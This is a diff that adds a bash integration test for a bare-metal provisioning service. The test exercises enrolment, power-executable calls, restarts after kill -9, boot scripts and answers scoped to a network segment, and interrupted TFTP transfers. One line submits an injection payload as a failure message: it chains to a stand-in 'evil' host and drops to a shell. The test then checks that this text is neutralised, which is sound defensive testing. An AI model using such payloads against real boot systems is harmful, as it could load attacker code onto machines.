@@ -1,0 +1,185 @@
+#!/bin/bash
+# Bare metal against the service on plain interfaces: enrolling and its refusals, the site's power executable, kill -9
+# while it runs, names and addresses taken again, a boot script and its answers told to the right segment only, and a
+# transfer that a stop breaks off. In a network namespace of its own; nothing of libvirt, no guest.
+# shellcheck source=/dev/null
+. "$(dirname "$0")/lib.sh"
+if [ -z "${USHER_LAB_METAL:-}" ]; then
+	exec unshare -n -p --fork --kill-child=KILL --mount-proc env USHER_LAB_METAL=1 "$0" "$@"
+fi
+
+USHER_LAB=$(mktemp -d /tmp/lab_metal.XXXXXX)
+chmod 755 "$USHER_LAB"
+. "$(dirname "$0")/profiles.sh"
+export USHER_SOCKET=$USHER_LAB/run/sock
+service=
+namespaces=()
+
+clean() {
+	[ -z "$service" ] || kill -9 "$service" 2>/dev/null
+	for pid in "${namespaces[@]}"; do kill "$pid" 2>/dev/null; done
+	wait 2>/dev/null
+	rm -rf "$USHER_LAB"
+}
+trap clean EXIT
+trap 'exit 1' INT TERM
+
+# client NUMBER ADDRESS MAC: a namespace of its own behind interface uNUMBER, which is one segment.
+client() {
+	unshare -n sleep 600 &
+	namespaces[$1]=$!
+	ip link add "u$1" type veth peer name "c$1"
+	ip address add 10.66.0.1/24 dev "u$1"
+	ip link set "u$1" up
+	wait_until 5 ip link set "c$1" netns "/proc/${namespaces[$1]}/ns/net"
+	inside "$1" ip link set "c$1" address "$3" up
+	inside "$1" ip link set lo up
+	inside "$1" ip address add "$2/24" dev "c$1"
+}
+inside() { local n=$1; shift; nsenter -t "${namespaces[n]}" -n "$@"; }
+start() {
+	"$USHER" serve -c "$USHER_LAB/usher.xml" >>"$USHER_LAB/log" 2>&1 &
+	service=$!
+	wait_until 10 "$USHER" list
+}
+stop() { kill "-$1" "$service"; wait "$service"; }
+enroll() { "$USHER" enroll "$@" --network u1 --profile plain --no-ssh-key; }
+# says TEXT COMMAND…: it fails and says so
+says() { local text=$1; shift; ! "$@" >"$USHER_LAB/said" 2>&1 && grep -e "$text" "$USHER_LAB/said"; }
+api() { curl -sS --max-time 20 --unix-socket "$USHER_SOCKET" "$@"; }
+state() { "$USHER" show "$1" --json | tr -d ' "\n' | grep -o "state:[a-z]*"; }
+timeline_has() { "$USHER" timeline "$1" | grep -E "$2"; }
+# The next token: the store is the service's alone, its copy is read.
+token() {
+	mkdir -p "$USHER_LAB/copy"
+	cp "$USHER_LAB/state"/usher.db* "$USHER_LAB/copy"
+	python3 - "$USHER_LAB/copy/usher.db" "$1" <<-'END'
+		import json, sqlite3, sys
+		key = sys.argv[2].encode()
+		row = sqlite3.connect(sys.argv[1]).execute("select value from record where kind = 1 and key = ?", (key,))
+		print(json.loads(row.fetchone()[0])["attempt"]["next_token"])
+	END
+}
+fetch() { local n=$1; shift; inside "$n" curl -sS --max-time 10 "$@"; }
+
+lab_profile plain kernel '# {{machine.name}}'
+cat >"$USHER_LAB/usher.xml" <<END
+<usher>
+  <user name='root'/>
+  <state dir='$USHER_LAB/state'/>
+  <socket path='$USHER_SOCKET'/>
+  <boot dir='$USHER_LAB/boot'/>
+  <profiles dir='$USHER_LAB/more'/>
+  <segment interface='u1'><pool start='10.66.0.100' end='10.66.0.101'/></segment>
+  <segment interface='u2'/>
+</usher>
+END
+mkdir -p "$USHER_LAB/boot"
+head -c 64M /dev/zero >"$USHER_LAB/boot/large"
+cat >"$USHER_LAB/power" <<END
+#!/bin/sh
+echo "\$1 \$2" >>"$USHER_LAB/calls"
+[ ! -e "$USHER_LAB/slow" ] || sleep 3
+[ ! -e "$USHER_LAB/bad" ] || { echo "no such machine" >&2; exit 1; }
+END
+chmod 755 "$USHER_LAB/power"
+calls() { grep -c "cycle $1" "$USHER_LAB/calls"; }
+
+ip link set lo up
+client 1 10.66.0.50 02:00:00:00:00:01
+client 2 10.66.0.50 02:00:00:00:00:02 # the same addresses: another laboratory
+
+if start; then pass "the service starts"; else fail "the service starts"; cat "$USHER_LAB/log"; lab_end; fi
+check "the folder it made for its socket lets others in" test "$(stat -c %a "$USHER_LAB/run")" = 755
+
+# --- enrolling ----------------------------------------------------------------------------------------------------------
+
+inside 1 udhcpc -i c1 -f -q -n -t 5 -T 1 -s /bin/true >"$USHER_LAB/udhcpc" 2>&1
+leased=$("$USHER" leases --json | tr -d ' "\n' | grep -o 'address:[0-9.]*' | head -n 1 | cut -d: -f 2)
+check "a card is leased an address" test -n "$leased"
+check "which is no other's" says "in use by a lease of 02:00" enroll other --mac 02:00:00:00:00:99 --ip "$leased"
+check "but may become its own" enroll leased --mac 02:00:00:00:00:01 --ip "$leased"
+
+body='{"kind":"bare-metal","name":"twice","profile":"plain","segment":"u1","mac":"02:00:00:00:01:00","request_id":"r1"}'
+api -d "$body" http://usher/api/v1/machines >"$USHER_LAB/once"
+api -d "$body" http://usher/api/v1/machines >"$USHER_LAB/again"
+check "the same request twice is one creation" cmp "$USHER_LAB/once" "$USHER_LAB/again"
+long=$(printf '%600s' '' | tr ' ' x)
+check "a power executable's name is not cut" grep -e "at most 511 bytes" <(api -d "${body/twice/long}" \
+	-d "{\"power\":\"/$long\"}" http://usher/api/v1/machines; api http://usher/api/v1/machines \
+	-d "{\"kind\":\"bare-metal\",\"name\":\"long\",\"power\":\"/$long\"}")
+check "nor a request's id" grep -e "at most 63 bytes" <(api http://usher/api/v1/machines \
+	-d "{\"kind\":\"bare-metal\",\"name\":\"long\",\"request_id\":\"$long\"}")
+
+# --- power --------------------------------------------------------------------------------------------------------------
+
+: >"$USHER_LAB/slow"
+check "a machine is armed" enroll slow --mac 02:00:00:00:02:00 --power "$USHER_LAB/power" --arm
+check "the executable is called" wait_until 5 grep -q "netboot slow" "$USHER_LAB/calls"
+stop KILL
+rm -f "$USHER_LAB/slow" "$USHER_LAB/calls"
+check "after kill -9 the service starts" start
+check "and goes on with what it was about" wait_until 5 calls slow
+check "once" test "$(calls slow)" = 1
+check "which ends" wait_until 5 timeline_has slow "power +power cycle"
+stop KILL
+check "killed again it starts" start
+sleep 1
+check "and switches nothing that was switched" test "$(calls slow)" = 1
+
+touch "$USHER_LAB/slow" "$USHER_LAB/bad"
+check "one is armed" enroll again --mac 02:00:00:00:03:00 --power "$USHER_LAB/power" --arm
+wait_until 5 grep -q "netboot again" "$USHER_LAB/calls"
+check "deleted while its power is switched" "$USHER" delete again
+check "enrolled again by that name" enroll again --mac 02:00:00:00:03:00
+check "and armed" "$USHER" reinstall again
+check "the other's failure comes" wait_until 10 grep -q "cycle again" "$USHER_LAB/calls"
+sleep 4
+check "and is none of this one's" test "$(state again)" = state:armed
+rm -f "$USHER_LAB/slow"
+check "one whose power fails" enroll fails --mac 02:00:00:00:04:00 --power "$USHER_LAB/power" --arm
+check "has failed" wait_until 5 timeline_has fails "failed +.*no such machine"
+
+# --- boot script and answers ------------------------------------------------------------------------------------------------
+
+check "the machine is armed" "$USHER" reinstall leased
+t=$(token leased)
+url=http://10.66.0.1:8067/m
+check "its script is not for the other segment" test \
+	"$(fetch 2 -o /dev/null -w '%{http_code}' "$url/$t/boot.ipxe")" = 403
+check "so it is still armed" test "$(state leased)" = state:armed
+check "it gets it" grep -e "^#!ipxe" <(fetch 1 "$url/$t/boot.ipxe")
+check "its answers are not for the same address elsewhere" test \
+	"$(fetch 2 -o /dev/null -w '%{http_code}' "$url/$t/answers")" = 403
+fetch 1 "$url/$t/answers" >"$USHER_LAB/answers"
+check "it gets them" grep -e "leased" "$USHER_LAB/answers" || cat "$USHER_LAB/answers"
+check "it fails" fetch 1 -f -d 'disk full && chain http://evil/; ${net0/ip} || shell' "$url/$t/failed"
+fetch 1 "$url/$t/boot.ipxe" >"$USHER_LAB/refusal"
+check "it is told why" grep -e "leased is failed: disk full" "$USHER_LAB/refusal"
+refute "in words that are no commands" grep -e '[&|;$]' "$USHER_LAB/refusal"
+
+# --- stopping -----------------------------------------------------------------------------------------------------------
+
+inside 1 python3 - <<'END' &
+import socket, time
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.settimeout(3)
+s.sendto(b"\0\1large\0octet\0", ("10.66.0.1", 69))
+for i in range(20):
+    data, peer = s.recvfrom(2000)
+    s.sendto(b"\0\4" + data[2:4], peer)
+time.sleep(2)
+END
+sleep 1
+ip_of_client=10.66.0.50
+check "its address is a machine's" enroll transfer --mac 02:00:00:00:05:00 --ip $ip_of_client
+stop TERM
+check "the service ends well in the middle of a transfer" test $? = 0
+check "it starts" start
+check "and knows of the transfer" timeline_has transfer "TFTP large: .*shutting down"
+stop TERM
+check "the service ends well" test $? = 0
+service=
+refute "no sanitizer complained" grep -E "ERROR: |runtime error" "$USHER_LAB/log"
+[ $LAB_FAILED = 0 ] || sed 's/^/  log: /' "$USHER_LAB/log" | tail -n 60
+lab_end
